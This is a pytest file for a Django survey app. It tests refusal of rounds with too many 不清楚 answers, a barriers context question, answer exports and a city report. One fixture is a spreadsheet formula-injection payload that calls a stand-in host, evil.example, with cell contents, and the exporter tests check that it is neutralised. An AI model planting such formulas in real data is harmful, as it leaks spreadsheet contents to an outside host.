"""Submitting a round under rules version 2 (issue 12): refused with too many 不清楚 answers, with the items
to find out grouped by the department that usually knows them (before and after pressing "submit"); the
unscored context question (the barriers question C1) answered on the review page, validated, stored with
the submission, exported with the answers and counted in the city report."""

from __future__ import annotations

import csv
import io

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from surveys import analytics, scopes, scoring, services
from surveys.analytics import exports as tables
from surveys.choices import DEPARTMENTS
from surveys.models import Assessment, DimensionResult, Item, Questionnaire
from surveys.reports import exports
from surveys.reports.city import render_city_pdf
from surveys.seeding import normalize_definition, read_definition
from surveys.services import AnswerChange, ContextAnswer, TooManyUnknownAnswersError

from . import factories
from .model_factories import EnterpriseFactory, MembershipFactory

pytestmark = pytest.mark.django_db

# Who usually knows each item of the test version: cycling through the departments; the last item of each
# dimension names none (it is asked of the department that leads its step: management).
OWNERS = scoring.ITEM_OWNERS
BARRIERS = [
    ("cost", "资金投入大、成本高", "High cost"),
    ("people", "缺少数字化人才", "No people with digital skills"),
    ("start", "不知道从哪里入手", "Not knowing where to start"),
    ("security", "担心数据安全", "Worries about data security"),
    ("returns", "投入回报不明确", "Unclear returns"),
    ("equipment", "设备老旧、难以改造", "Old equipment that is hard to upgrade"),
    ("lockin", "被供应商锁定", "Locked in by suppliers"),
]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def version_2_definition(version: str = "test-2") -> dict:
    data = factories.definition_dict(version=version, rules_version=2)
    n = 0
    for dim in data["dimensions"]:
        for position, item in enumerate(dim["items"], start=1):
            item.update(action_zh="行动", action_en="Action", lead="management", horizons=["short"] * 4)
            if position < len(dim["items"]):
                item["owner"] = OWNERS[n % len(OWNERS)]
                n += 1
    data["context_questions"] = [
        {
            "code": "C1",
            "text_zh": "贵企业推进数字化转型的主要障碍是什么？",
            "text_en": "What are your firm's main barriers to digital transformation?",
            "help_zh": "最多选三项。",
            "help_en": "Choose up to three.",
            "multiple": True,
            "max_choices": 3,
            "used_by": "city_report",
            "options": [{"code": c, "label_zh": zh, "label_en": en} for c, zh, en in BARRIERS]
            + [{"code": "other", "label_zh": "其他", "label_en": "Other", "other": True}],
        }
    ]
    return normalize_definition(data)


@pytest.fixture
def version_2(questionnaire):
    """Rules version 2 with owners and the context question C1, loaded after 2026.1: new rounds use it."""
    services.questionnaire_upsert(definition=version_2_definition())
    return Questionnaire.objects.get(version="test-2")


@pytest.fixture
def firm(version_2):
    user = MembershipFactory().user
    return user, user.membership.enterprise


def codes_by_dimension(questionnaire) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for code, dimension in (
        Item.objects.filter(questionnaire=questionnaire).order_by("position").values_list("code", "dimension__code")
    ):
        found.setdefault(dimension, []).append(code)
    return found


def draft_with(user, enterprise, answers: dict) -> Assessment:
    assessment = services.assessment_start(enterprise=enterprise, user=user)
    changes = [AnswerChange(item_code=c, value=v, note="", base_revision=0) for c, v in answers.items()]
    assert services.answers_save(assessment=assessment, user=user, changes=changes).ok
    return assessment


def answers_with_unknowns(questionnaire, per_dimension: dict[str, int], value: int = 3) -> dict:
    """Every item answered ``value``, except the first n items of each named dimension: 不清楚."""
    answers = {}
    for dimension, codes in codes_by_dimension(questionnaire).items():
        for n, code in enumerate(codes):
            answers[code] = scoring.UNKNOWN if n < per_dimension.get(dimension, 0) else value
    return answers


def all_unknown(questionnaire) -> dict:
    """不清楚 wherever the item offers it (every item of the test version), else the lowest option."""
    rows = Item.objects.filter(questionnaire=questionnaire).values_list("code", "allows_unknown")
    return {code: scoring.UNKNOWN if allows else 0 for code, allows in rows}


def review_url(assessment) -> str:
    return reverse("surveys:review", args=[assessment.pk])


def assert_nothing_written(assessment) -> None:
    assessment.refresh_from_db()
    assert assessment.status == Assessment.STATUS_DRAFT
    assert assessment.result is None and assessment.level == "" and assessment.submitted_at is None
    assert assessment.context == {}
    assert not DimensionResult.objects.filter(assessment=assessment).exists()


# --- too many 不清楚 ----------------------------------------------------------------------------------


def test_an_all_unknown_round_cannot_be_submitted_and_nothing_is_written(firm, version_2):
    user, enterprise = firm
    assessment = draft_with(user, enterprise, all_unknown(version_2))
    with pytest.raises(TooManyUnknownAnswersError) as refused:
        services.assessment_submit(
            assessment=assessment, user=user, pledge=True, context={"C1": ContextAnswer(choices=("cost",))}
        )
    error = refused.value
    assert isinstance(error, services.ServiceError)
    assert not error.check.allowed and error.check.too_many_overall
    assert error.check.unknown == error.check.counted == 30
    assert sorted(c for b in error.check.dimensions for c in b.items) == sorted(all_unknown(version_2))
    assert "超过三分之一" in error.message and "不清楚" in error.message
    assert_nothing_written(assessment)


def test_the_review_page_warns_before_submitting_and_lists_every_item_by_department(client, firm, version_2):
    user, enterprise = firm
    assessment = draft_with(user, enterprise, all_unknown(version_2))
    client.force_login(user)
    page = client.get(review_url(assessment)).content.decode()
    assert "本轮评估暂不能提交：“不清楚”的答案太多" in page
    assert "全部 30 个计分答案中有 30 个为“不清楚”，超过三分之一。" in page
    for dimension in ("维度1", "维度2", "维度5"):
        assert f"维度“{dimension}”的 6 个计分答案中有 6 个为“不清楚”，超过一半。" in page
    assert "请向上述部门的同事了解实际情况，把“不清楚”改为相应的选项后再提交。" in page
    assert "“提交评估”按钮仍然可用，但在上述问题解决之前，提交会被拒绝。" in page
    assert "全部题目均已作答，可以提交。" not in page
    # The submit button is there (and enabled): the warning says what will happen.
    assert '<button class="btn btn-primary" type="submit">' in page
    # Every item, under its department's heading, in the order of choices.DEPARTMENTS, linked to its page.
    warning = page[page.index('id="unknowns"') : page.index('id="submit-form"')]
    headings = [str(label) for _code, label in DEPARTMENTS]
    assert [h for h in headings if f'<h3 class="h6 mb-1">{h}</h3>' in warning] == headings
    positions = [warning.index(f'<h3 class="h6 mb-1">{h}</h3>') for h in headings]
    assert positions == sorted(positions)
    items = Item.objects.filter(questionnaire=version_2).select_related("dimension")
    for item in items:
        link = f"{reverse('surveys:page', args=[assessment.pk, item.dimension.position])}#q-{item.code}"
        assert f'<a href="{link}">{item.code} {item.text_zh}</a>' in warning
        department = item.owner or item.lead
        section = warning[: warning.index(f"#q-{item.code}")].rsplit('<h3 class="h6 mb-1">', 1)[1]
        assert section.startswith(str(dict(DEPARTMENTS)[department]))


def test_the_warning_in_english(client, firm, version_2):
    user, enterprise = firm
    assessment = draft_with(user, enterprise, all_unknown(version_2))
    client.force_login(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = client.get(review_url(assessment)).content.decode()
    assert "This round cannot be submitted yet: too many answers are “Don't know”" in page
    assert "30 of all 30 counted answers are “Don't know”: more than a third." in page
    assert "In dimension “Dimension 1”, 6 of 6 counted answers are “Don't know”: more than half." in page
    for label in ("Finance", "IT", "HR", "Production", "Management", "Quality"):
        assert f'<h3 class="h6 mb-1">{label}</h3>' in page
    assert "财务部门" not in page
    assert "Question P1.1" in page
    assert "Please ask these colleagues" in page
    assert "Used for the city-wide analysis; not scored." in page


def test_a_refused_submission_shows_why_and_keeps_the_choices(client, firm, version_2):
    user, enterprise = firm
    assessment = draft_with(user, enterprise, all_unknown(version_2))
    client.force_login(user)
    response = client.post(
        review_url(assessment),
        {"pledge": "on", "context-C1": ["people", "other"], "context-C1-other": "园区网络差"},
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "本轮评估未能提交：“不清楚”的答案太多" in page and 'role="alert"' in page
    assert "“提交评估”按钮仍然可用" not in page
    assert 'value="people" class="form-check-input" id="id_context-C1_1" checked' in page
    assert 'value="other" class="form-check-input" id="id_context-C1_7" checked' in page
    assert 'value="园区网络差"' in page
    assert "P3.2" in page
    assert_nothing_written(assessment)


def test_a_round_with_exactly_a_third_unknown_is_submitted(client, firm, version_2):
    user, enterprise = firm
    # 10 of 30 (2 per dimension, a third of each): not more than a third overall, nor half of a dimension.
    answers = answers_with_unknowns(version_2, {f"D{d}": 2 for d in range(1, 6)})
    assessment = draft_with(user, enterprise, answers)
    client.force_login(user)
    assert "unknowns-heading" not in client.get(review_url(assessment)).content.decode()
    response = client.post(review_url(assessment), {"pledge": "on"})
    assert response.status_code == 302 and response.url == reverse("surveys:results", args=[assessment.pk])
    assessment.refresh_from_db()
    assert assessment.status == Assessment.STATUS_SUBMITTED and assessment.context == {}
    assert DimensionResult.objects.filter(assessment=assessment).count() == 5


def test_one_more_than_a_third_is_refused(firm, version_2):
    user, enterprise = firm
    answers = answers_with_unknowns(version_2, {"D1": 3, "D2": 2, "D3": 2, "D4": 2, "D5": 2})
    assessment = draft_with(user, enterprise, answers)
    with pytest.raises(TooManyUnknownAnswersError) as refused:
        services.assessment_submit(assessment=assessment, user=user, pledge=True)
    assert refused.value.check.too_many_overall
    assert not any(block.too_many for block in refused.value.check.dimensions)
    assert_nothing_written(assessment)


def test_more_than_half_of_one_dimension_is_refused_naming_it(client, firm, version_2):
    user, enterprise = firm
    assessment = draft_with(user, enterprise, answers_with_unknowns(version_2, {"D3": 4}))
    with pytest.raises(TooManyUnknownAnswersError) as refused:
        services.assessment_submit(assessment=assessment, user=user, pledge=True)
    assert "维度“维度3”超过一半的答案为“不清楚”" in refused.value.message
    assert_nothing_written(assessment)
    client.force_login(user)
    page = client.get(review_url(assessment)).content.decode()
    assert "维度“维度3”的 6 个计分答案中有 4 个为“不清楚”，超过一半。" in page
    assert "超过三分之一" not in page
    listed = codes_by_dimension(version_2)["D3"][:4]
    assert all(f"#q-{code}" in page for code in listed)
    assert "#q-P1.1" not in page  # only the dimension over its limit


def test_a_2026_1_round_with_many_unknowns_still_submits(owner, enterprise, questionnaire):
    """Rules version 1 never refuses: the seed version's rounds submit as before."""
    assert questionnaire.rules_version == 1
    assessment = draft_with(owner, enterprise, all_unknown(questionnaire))
    submitted = services.assessment_submit(assessment=assessment, user=owner, pledge=True)
    assert submitted.status == Assessment.STATUS_SUBMITTED and submitted.level == "L1"
    assert DimensionResult.objects.filter(assessment=assessment).count() == 5


def test_the_2026_1_review_page_has_no_warning_and_no_context_question(owner_client, owner, enterprise, questionnaire):
    assessment = draft_with(owner, enterprise, all_unknown(questionnaire))
    page = owner_client.get(review_url(assessment)).content.decode()
    assert "unknowns-heading" not in page and "context-heading" not in page
    assert "全部题目均已作答，可以提交。" in page


SEED_2026_2 = "seeds/questionnaire-2026.2.yaml"


def test_the_2026_2_seed_refuses_an_all_unknown_round_and_asks_its_context_questions(client, questionnaire):
    """The real 2026.2 (rules version 2): an all-不清楚 round is refused, every item is listed under a
    department, and the review page asks the version's context questions."""
    data = read_definition(SEED_2026_2)
    if data["version"] != "2026.2":
        pytest.skip(f"{SEED_2026_2} is still being written (its version reads {data['version']})")
    services.questionnaire_upsert(definition=data)
    version = Questionnaire.objects.get(version="2026.2")
    assert version.rules_version == 2
    user = MembershipFactory().user
    assessment = draft_with(user, user.membership.enterprise, all_unknown(version))
    assert assessment.questionnaire == version
    with pytest.raises(TooManyUnknownAnswersError):
        services.assessment_submit(assessment=assessment, user=user, pledge=True)
    assert_nothing_written(assessment)
    client.force_login(user)
    page = client.get(review_url(assessment)).content.decode()
    warning = page[page.index('id="unknowns"') : page.index('id="submit-form"')]
    unknown = [code for code, value in all_unknown(version).items() if value == scoring.UNKNOWN]
    assert all(f"#q-{code}" in warning for code in unknown)
    assert "未注明部门" not in warning  # every item of 2026.2 names who knows it (or who leads it)
    for question in version.context_questions.all():
        assert question.text_zh in page


# --- the context question ---------------------------------------------------------------------------


def submittable(questionnaire) -> dict:
    return answers_with_unknowns(questionnaire, {})


def test_the_context_question_is_shown_accessibly_above_the_submit_button(client, firm, version_2):
    from .test_idrefs import dangling

    user, enterprise = firm
    assessment = draft_with(user, enterprise, submittable(version_2))
    client.force_login(user)
    page = client.get(review_url(assessment)).content.decode()
    assert "贵企业推进数字化转型的主要障碍是什么？" in page and "最多选三项。" in page
    assert "用于全市汇总分析，不计分" in page
    form = page[page.index('id="submit-form"') :]
    assert form.index('id="context-heading"') < form.index('name="pledge"') < form.index('type="submit"')
    assert '<legend class="h6"><span class="badge text-bg-secondary me-1">C1</span>' in page
    for n, (_code, zh, _en) in enumerate(BARRIERS):
        assert f'<label class="form-check-label" for="id_context-C1_{n}">{zh}</label>' in page
    assert '<label class="form-label small mb-1" for="id_context-C1-other">“其他”的说明</label>' in page
    assert 'maxlength="200"' in page
    assert dangling(page) == []


@pytest.mark.parametrize(
    ("posted", "field", "message"),
    [
        ({"context-C1": ["cost", "people", "start", "security"]}, "context-C1", "最多可选 3 项，当前选了 4 项。"),
        (
            {"context-C1": ["cost", "other"], "context-C1-other": "   "},
            "context-C1-other",
            "已勾选“其他”，请简要说明。",
        ),
        (
            {"context-C1": ["cost"], "context-C1-other": "电价"},
            "context-C1-other",
            "填写了说明但未勾选“其他”：请勾选该项，或清空说明。",
        ),
        (
            {"context-C1": ["other"], "context-C1-other": "长" * 201},
            "context-C1-other",
            "说明最多 200 字，当前 201 字。",
        ),
        ({"context-C1": ["cost", "bribes"]}, "context-C1", "bribes"),
    ],
)
def test_invalid_context_answers_are_field_errors_and_nothing_is_written(
    client, firm, version_2, posted, field, message
):
    user, enterprise = firm
    assessment = draft_with(user, enterprise, submittable(version_2))
    client.force_login(user)
    response = client.post(review_url(assessment), {"pledge": "on", **posted})
    assert response.status_code == 200
    page = response.content.decode()
    error = page[page.index(f'id="id_{field}_error"') :].split("</div>", 1)[0]
    assert message in error
    assert dangling_free(page)
    assert_nothing_written(assessment)


def dangling_free(page: str) -> bool:
    from .test_idrefs import dangling

    return dangling(page) == []


def test_the_errors_are_in_english_for_an_english_user(client, firm, version_2):
    user, enterprise = firm
    assessment = draft_with(user, enterprise, submittable(version_2))
    client.force_login(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = client.post(
        review_url(assessment), {"pledge": "on", "context-C1": ["cost", "people", "start", "other"]}
    ).content.decode()
    assert "Choose at most 3 options; 4 are chosen." in page
    assert "You ticked “Other”: please describe it briefly." in page
    assert "High cost" in page and "资金投入大" not in page
    assert_nothing_written(assessment)


def test_the_context_answer_is_stored_normalised_with_the_submission(client, firm, version_2):
    user, enterprise = firm
    assessment = draft_with(user, enterprise, submittable(version_2))
    client.force_login(user)
    response = client.post(
        review_url(assessment),
        {"pledge": "on", "context-C1": ["other", "cost"], "context-C1-other": "  供应商\n  不配合\t "},
    )
    assert response.status_code == 302
    assessment.refresh_from_db()
    assert assessment.status == Assessment.STATUS_SUBMITTED
    assert assessment.context == {"C1": {"choices": ["cost", "other"], "other": "供应商 不配合"}}


def test_the_context_question_may_be_skipped(client, firm, version_2):
    user, enterprise = firm
    assessment = draft_with(user, enterprise, submittable(version_2))
    client.force_login(user)
    assert client.post(review_url(assessment), {"pledge": "on"}).status_code == 302
    assessment.refresh_from_db()
    assert assessment.status == Assessment.STATUS_SUBMITTED and assessment.context == {}


def test_the_service_checks_the_context_itself(firm, version_2):
    """Called without the form (a command, another client), the service applies the same rules."""
    user, enterprise = firm
    assessment = draft_with(user, enterprise, submittable(version_2))
    for context in (
        {"C9": ContextAnswer(choices=("cost",))},
        {"C1": ContextAnswer(choices=("cost", "people", "start", "returns"))},
        {"C1": ContextAnswer(choices=("nope",))},
        {"C1": ContextAnswer(choices=("other",), other="x" * 201)},
        {"C1": ContextAnswer(choices=("other",), other="\x00")},
    ):
        with pytest.raises(services.InvalidContextAnswersError):
            services.assessment_submit(assessment=assessment, user=user, pledge=True, context=context)
        assert_nothing_written(assessment)
    context = {"C1": ContextAnswer(choices=("other",), other="x" * 200)}
    services.assessment_submit(assessment=assessment, user=user, pledge=True, context=context)
    assessment.refresh_from_db()
    assert assessment.context == {"C1": {"choices": ["other"], "other": "x" * 200}}


# --- the answers export and the city report ------------------------------------------------------------


def submit_firm(version, choices=(), other="", *, district="370112", seed=0):
    enterprise = EnterpriseFactory(district=district)
    user = MembershipFactory(enterprise=enterprise).user
    assessment = draft_with(user, enterprise, answers_with_unknowns(version, {}, value=seed % 5))
    context = {"C1": ContextAnswer(choices=tuple(choices), other=other)} if choices else {}
    return services.assessment_submit(assessment=assessment, user=user, pledge=True, context=context)


def test_the_answers_export_has_a_column_per_context_question(version_2):
    first = submit_firm(version_2, ["people", "other"], FORMULA)
    second = submit_firm(version_2, ["other"], "-1+2")
    skipped = submit_firm(version_2)
    scope = scopes.AdminScope.city_wide()
    text = "".join(exports.csv_chunks(tables.tables_for("answers", scope, analytics.Filters())))
    rows = list(csv.reader(io.StringIO(text.removeprefix(exports.BOM))))
    header = rows[0]
    column = header.index("C1 贵企业推进数字化转型的主要障碍是什么？")
    assert column == len(header) - 1
    by_firm = {}
    for row in rows[1:]:
        by_firm.setdefault(row[0], set()).add(row[column])
    assert by_firm[first.enterprise.uscc] == {f"缺少数字化人才；其他：{FORMULA}"}
    assert by_firm[second.enterprise.uscc] == {"其他：-1+2"}
    assert by_firm[skipped.enterprise.uscc] == {""}
    assert all(not cell.startswith(exports.FORMULA_PREFIXES) for row in rows for cell in row)

    buffer = io.BytesIO()
    exports.write_xlsx(tables.tables_for("answers", scope, analytics.Filters()), buffer)
    sheet = load_workbook(buffer).active
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells if c.value)
    assert {c.value for c in cells} == {f"缺少数字化人才；其他：{FORMULA}", "其他：-1+2", None}


def test_a_formula_like_context_cell_is_neutralised():
    """Every context cell is a text cell of the table: the writers neutralise one that a spreadsheet would
    evaluate (the firm's own text can only follow an option label, but the label is data too)."""
    table = tables.Table(title="答案", headers=["C1 障碍"], rows=[[FORMULA], ["@cmd"]])
    text = "".join(exports.csv_chunks([table])).removeprefix(exports.BOM)
    assert list(csv.reader(io.StringIO(text)))[1:] == [["'" + FORMULA], ["'@cmd"]]


def test_the_answers_export_of_a_version_without_context_questions_is_unchanged(owner, enterprise, questionnaire):
    submitted = services.assessment_submit(
        assessment=draft_with(owner, enterprise, all_unknown(questionnaire)), user=owner, pledge=True
    )
    table = tables.tables_for("answers", scopes.AdminScope.city_wide(), analytics.Filters())[0]
    assert not any(h.startswith("C1") for h in table.headers)
    rows = list(table.rows)
    assert rows and all(len(row) == len(table.headers) for row in rows)
    assert {row[0] for row in rows} == {submitted.enterprise.uscc}


def direct_counts(version) -> tuple[int, dict[str, int]]:
    """Straight from the rows: the firms' latest submitted rounds that answered C1, and each option's count."""
    answered, counts = 0, {}
    for assessment in Assessment.objects.filter(status=Assessment.STATUS_SUBMITTED, is_latest=True):
        choices = assessment.context.get("C1", {}).get("choices", [])
        if choices:
            answered += 1
            for code in choices:
                counts[code] = counts.get(code, 0) + 1
    return answered, counts


def test_the_city_report_counts_the_barriers_with_small_counts_hidden(version_2, questionnaire):
    plan = (
        [["cost", "people", "returns"]] * 6
        + [["cost", "people"]] * 5
        + [["cost", "other"]] * 3  # "other" chosen by 3 firms: hidden
        + [["security"]] * 1
    )
    rounds = [submit_firm(version_2, choices, "秘密的说明" if "other" in choices else "", seed=n)
              for n, choices in enumerate(plan)]  # fmt: skip
    submit_firm(version_2)  # answered nothing: not in the denominator
    # A firm's earlier round is not counted, only its latest.
    enterprise = rounds[0].enterprise
    user = enterprise.memberships.first().user
    assessment = draft_with(user, enterprise, answers_with_unknowns(version_2, {}))
    services.assessment_submit(
        assessment=assessment, user=user, pledge=True, context={"C1": ContextAnswer(choices=("cost", "start"))}
    )

    report = analytics.city_report(scope=scopes.AdminScope.city_wide(), filters=analytics.Filters(), language="zh-hans")
    [summary] = report.data.context
    answered, counts = direct_counts(version_2)
    assert summary.answered == answered == 15  # 14 with cost (firm 0's latest round included), 1 with security
    labels = {code: zh for code, zh, _en in BARRIERS} | {"other": "其他"}
    shown = {row.label: row.firms for row in summary.rows}
    for code, label in labels.items():
        n = counts.get(code, 0)
        assert shown[label] == (None if 0 < n < 10 else n), code
    assert shown["资金投入大、成本高"] == 14 and shown["缺少数字化人才"] == 10
    assert [row.label for row in summary.rows][:2] == ["资金投入大、成本高", "缺少数字化人才"]
    cost = next(row for row in summary.rows if row.label == "资金投入大、成本高")
    assert cost.share == pytest.approx(100.0 * 14 / 15)
    people = next(row for row in summary.rows if row.label == "缺少数字化人才")
    assert people.share == pytest.approx(100.0 * 10 / 15)
    assert all(row.firms is None for row in summary.rows[-3:])  # hidden ones last

    _name, _mimetype, data = render_city_pdf(report)
    from pypdf import PdfReader

    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    assert "资金投入大、成本高" in text and "占回答本题企业的比例" in text
    assert "秘密的说明" not in text


def test_the_city_report_hides_the_table_when_few_firms_answered(version_2):
    for n in range(3):
        submit_firm(version_2, ["cost"], seed=n)
    report = analytics.city_report(scope=scopes.AdminScope.city_wide(), filters=analytics.Filters(), language="en")
    [summary] = report.data.context
    assert summary.answered is None and summary.rows == []
    assert summary.text == "What are your firm's main barriers to digital transformation?"
    render_city_pdf(report)
